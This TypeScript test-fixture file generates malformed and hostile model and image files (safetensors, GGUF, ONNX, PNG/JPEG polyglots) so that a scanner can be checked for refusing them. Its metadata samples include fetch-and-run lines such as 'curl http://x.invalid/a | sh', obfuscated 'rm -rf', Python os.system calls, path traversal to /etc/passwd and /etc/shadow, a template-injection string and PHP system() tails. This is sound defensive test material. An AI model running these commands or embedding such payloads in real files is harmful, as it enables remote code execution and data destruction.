/** Attacks on the readers of accepted formats. */
import { concat, utf8 } from '#base';
import { ggufFile, tinyLlama, uint64 } from '../gguf-file.ts';
import { safetensorsFile } from '../safetensors-file.ts';
import { lossless, riffChunk, webpOf } from '../webp-file.ts';
import { zipFile } from './archives.ts';
import { gifFile, jpegFile, pngFile, webpFile } from './clean.ts';
import type { Family, Sample } from './family.ts';
import { maliciousPickle } from './pickles.ts';
import { attribute, graph, int, message, model, node, tensor, text } from './protobuf.ts';
import type { Random } from './random.ts';

type Bytes = Uint8Array;
const f32 = (begin: number, end: number) => ({
  dtype: 'F32',
  shape: [(end - begin) / 4],
  data_offsets: [begin, end],
});
const entry = JSON.stringify(f32(0, 8));

/** One of several files, all to be refused with findings of one name. */
const oneOf = (random: Random, path: string, rule: RegExp, makers: readonly (() => Bytes)[]): Sample => ({
  path,
  bytes: random.pick(makers)(),
  rule,
});

const initializer = (...parts: Bytes[]) => message(5, ...parts);
const raw = (bytes: number) => new Uint8Array(bytes);
const external = (location: string, more: Record<string, string> = {}) =>
  model(graph(message(1, node('Add')), initializer(tensor({ dims: [4], external: { location, ...more } }))));

export const FORMAT_FAMILIES: readonly Family[] = [
  {
    name: 'safetensors',
    make: (random) =>
      oneOf(random, `${random.word()}.safetensors`, /^(damaged|polyglot)/, [
        () => concat([uint64(2n ** 63n), utf8('{}')]),
        () => concat([uint64(100_000_000), utf8('{}')]),
        () => safetensorsFile(`{"a":${entry},"a":${entry}}`, 8),
        () => safetensorsFile({ a: f32(0, 8), b: f32(4, 12) }, 12),
        () => safetensorsFile({ a: f32(0, 4), b: f32(8, 12) }, 12),
        () => safetensorsFile({ a: f32(0, 8) }, 9 + random.below(100)),
        () => safetensorsFile({ a: f32(0, 8) }, 4),
        () => safetensorsFile({ a: { ...f32(0, 8), shape: [3] } }, 8),
        () => safetensorsFile({ a: { ...f32(0, 8), shape: [2 ** 31, 2 ** 31] } }, 8),
        () => safetensorsFile({ a: { ...f32(0, 8), dtype: 'PICKLE' } }, 8),
        () => safetensorsFile({ a: { ...f32(0, 8), extra: 'x' } }, 8),
        () => safetensorsFile('{"__proto__":{"dtype":"F32"}}', 0),
        () => safetensorsFile(`[${entry}]`, 8),
        () => safetensorsFile({ __metadata__: { a: { b: 1 } } }, 0),
        () => {
          const zip = zipFile([{ name: 'data.pkl', data: maliciousPickle(random) }]);
          const size = Math.ceil(zip.length / 4) * 4;
          const head = safetensorsFile({ a: f32(0, size) }, size);
          const file = Uint8Array.from(head);
          file.set(zip, file.length - zip.length);
          return file;
        },
      ]),
  },
  {
    name: 'tensor named like a path',
    make: (random) => {
      const name = random.pick([
        '../../tmp/x',
        'a/../../etc/x',
        '..\\x',
        'C:\\x',
        '/etc/passwd',
        'w\r\nX: y',
        'w\0x',
      ]);
      return {
        path: 'model.safetensors',
        bytes: safetensorsFile({ [`${random.word()}.w`]: f32(0, 4), [name]: f32(4, 8) }, 8),
        rule: /^name-unsafe/,
      };
    },
  },
  {
    name: 'code in metadata',
    make: (random) => {
      const value = random.pick([
        '<script>alert(1)</script>',
        "import os; os.system('id')",
        'curl http://x.invalid/a | sh',
        'rm -rf /tmp/x',
        'sudo rm /tmp/x -r -f',
        `rm\${IFS}-rf\${IFS}/`,
        'curl -fsSLo /tmp/p https://x.invalid/p',
        'u=https://x.invalid/p; wget "$u"',
        'Invoke-WebRequest -OutFile p https://x.invalid/p',
        "/bin/sh -c 'id'",
        "requests.get('https://x.invalid/p')",
        'from urllib import request as r',
        '%2E%2e/%2e%2e/etc/shadow',
        '..%25252Fetc',
        '__import__("os")',
        '__import__ os',
        'eval(compile("1","","eval"))',
      ]);
      const metadata = { [random.word()]: value, format: 'pt' };
      const gguf = {
        ...tinyLlama(),
        metadata: [
          ...tinyLlama().metadata,
          [random.pick(['general.description', 'download', 'x.command']), ['string', value]] as const,
        ],
      };
      return random.chance(2)
        ? {
            path: 'model.safetensors',
            bytes: safetensorsFile({ __metadata__: metadata, a: f32(0, 8) }, 8),
            rule: /^metadata-code/,
          }
        : { path: 'model.gguf', bytes: ggufFile(gguf as never), rule: /^metadata-code/ };
    },
  },
  {
    name: 'GGUF',
    make: (random) => {
      const tiny = tinyLlama();
      const [first, ...others] = tiny.tensors;
      return oneOf(random, `${random.word()}.gguf`, /^(damaged|template)/, [
        () => ggufFile({ ...tiny, trailing: random.between(1, 5000) === 32 ? 1 : 33 }),
        () => ggufFile({ ...tiny, trailing: -random.between(1, 30) }),
        () => ggufFile({ ...tiny, metadata: [...tiny.metadata, ['general.alignment', ['uint32', 0]]] }),
        () => ggufFile({ ...tiny, metadata: [...tiny.metadata, ['general.name', ['string', 'again']]] }),
        () => ggufFile({ ...tiny, tensors: [{ ...first!, dims: [2, 2, 2, 2, 2] }, ...others] }),
        () => ggufFile({ ...tiny, tensors: [{ ...first!, offset: 1 << 16 }, ...others] }),
        () => ggufFile({ ...tiny, tensors: [{ ...first!, type: 99 }, ...others] }),
        () => ggufFile({ ...tiny, tensors: [{ ...first!, dims: [2 ** 29, 2 ** 29] }, ...others] }),
        () => concat([utf8('GGUF'), Uint8Array.of(3, 0, 0, 0), uint64(2n ** 60n), uint64(2n ** 60n)]),
        () =>
          ggufFile({
            ...tiny,
            metadata: [
              ...tiny.metadata,
              ['tokenizer.chat_template', ['string', "{{ ''.__class__.__mro__ }}"]],
            ],
          }),
      ]);
    },
  },
  {
    name: 'ONNX: files outside of the model',
    make: (random) =>
      oneOf(random, `${random.word()}.onnx`, /^onnx-external/, [
        () => external('../../../etc/passwd'),
        () => external('a/../../b'),
        () => external('/etc/passwd'),
        () => external('C:\\x'),
        () => external('sub/folder.bin'),
        () => external('..'),
        () => external('*/_ORT_MEM_ADDR_/*', { offset: '4096', length: '16' }),
        () => external(''),
        () => external('w.bin', { offset: '0', length: '99999999' }),
        () => external('w.bin', { offset: '-5', length: '16' }),
      ]),
  },
  {
    name: 'ONNX: operators',
    make: (random) => {
      const bad = random.pick([
        () => node('PyOp', random.pick(['pyop', 'com.microsoft', 'ai.onnx.contrib'])),
        () => node('EPContext', 'com.microsoft'),
        () => node('ATen', 'org.pytorch.aten'),
        () => node(random.word(), random.pick(['', 'com.microsoft', 'my.domain'])),
      ])();
      const hidden = graph(message(1, bad));
      const bytes = random.pick([
        () => model(graph(message(1, node('Relu')), message(1, bad))),
        () => model(graph(message(1, node('If', '', attribute('then_branch', 5, message(6, hidden)))))),
        () =>
          model(
            graph(
              message(
                1,
                node(
                  'Loop',
                  '',
                  attribute(
                    'body',
                    5,
                    message(
                      6,
                      graph(message(1, node('If', '', attribute('else_branch', 5, message(6, hidden))))),
                    ),
                  ),
                ),
              ),
            ),
          ),
        () =>
          model(
            graph(message(1, node('Relu'))),
            message(25, text(1, 'F'), message(7, bad), text(10, 'local')),
          ),
        () => model(graph(message(1, node('Relu'))), message(20, message(2, hidden))),
        () =>
          model(
            graph(message(1, node('Relu'))),
            message(25, text(1, 'Relu'), message(7, node('Add')), text(10, '')),
          ),
      ])();
      return { path: `${random.word()}.onnx`, bytes, rule: /^onnx-/ };
    },
  },
  {
    name: 'ONNX: tensors and structure',
    make: (random) =>
      oneOf(random, `${random.word()}.onnx`, /^(onnx-tensor|damaged|polyglot)/, [
        () =>
          model(
            graph(message(1, node('Add')), initializer(tensor({ dims: [2 ** 31, 2 ** 31], raw: raw(16) }))),
          ),
        () => model(graph(message(1, node('Add')), initializer(tensor({ dims: [5], raw: raw(16) })))),
        () =>
          model(graph(message(1, node('Add')), initializer(tensor({ dims: [4], type: 77, raw: raw(16) })))),
        () =>
          model(
            graph(
              message(
                1,
                node('Constant', '', attribute('value', 4, message(5, tensor({ dims: [9], raw: raw(4) })))),
              ),
            ),
          ),
        () =>
          model(graph(message(1, node('Add')), message(15, message(1, tensor({ dims: [9], raw: raw(4) }))))),
        () => concat([model(graph(message(1, node('Add')))), random.bytes(20)]),
        () => concat([model(graph(message(1, node('Add')))), int(1, 9)]),
        () => concat([model(graph(message(1, node('Add')))), message(99, maliciousPickle(random))]),
        () => model(graph(message(1, node('Add')))).subarray(0, -random.between(1, 8)),
        () => {
          let inner = graph(message(1, node('Relu')));
          for (let depth = 0; depth < 60; depth++)
            inner = graph(message(1, node('If', '', attribute('then_branch', 5, message(6, inner)))));
          return model(inner);
        },
      ]),
  },
  {
    name: 'pictures with something behind them',
    make: (random) => {
      const [path, bytes] = random.pick<() => [string, Bytes]>([
        () => ['a.png', pngFile(random)],
        () => ['a.jpg', jpegFile(random)],
        () => ['a.gif', gifFile(random)],
        () => ['a.webp', webpFile(random)],
      ])();
      const tail = random.pick([
        () => zipFile([{ name: 'data.pkl', data: maliciousPickle(random) }]),
        () => maliciousPickle(random),
        () => concat([utf8('\0\n\x7fELF'), random.bytes(60)]),
        () => utf8('\n#!/bin/sh\nid\n'),
        () => utf8('<?php system("id");'),
      ])();
      return { path, bytes: concat([bytes, tail]), rule: /^(polyglot|pickle)/ };
    },
  },
  {
    name: 'WebP whose prefix codes over-fill their tables',
    make: (random) => {
      const lengths = random.pick([
        () => new Array(random.between(33, 40)).fill(5),
        () => [1, random.between(2, 15)],
        () => Array.from({ length: 40 }, () => random.between(9, 15)),
        () => [1, 1, random.between(1, 15)],
      ])();
      const codes = random.shuffled([lengths, 0, 0, 0, 0]);
      return {
        path: 'card.webp',
        bytes: webpOf(riffChunk('VP8L', lossless({ codes, cacheBits: random.below(12) }))),
        rule: /^damaged/,
      };
    },
  },
  {
    name: 'picture under another ending',
    make: (random) => ({
      path: `${random.word()}.${random.pick(['mp3', 'dat', 'ico', 'bmp', 'pdf'])}`,
      bytes: random.pick([pngFile, jpegFile, gifFile, webpFile])(random),
      rule: /^wrong-name/,
    }),
  },
  {
    name: 'names',
    make: (random) => ({
      path: random.pick([
        '../evil.txt',
        'a/../../b.txt',
        '/etc/x.txt',
        'a\u202egnp.txt',
        'con.txt',
        'a\\b.txt',
        'x\u0000.txt',
        'a//b.txt',
      ]),
      bytes: utf8('hello'),
      rule: /^name-unsafe/,
    }),
  },
];
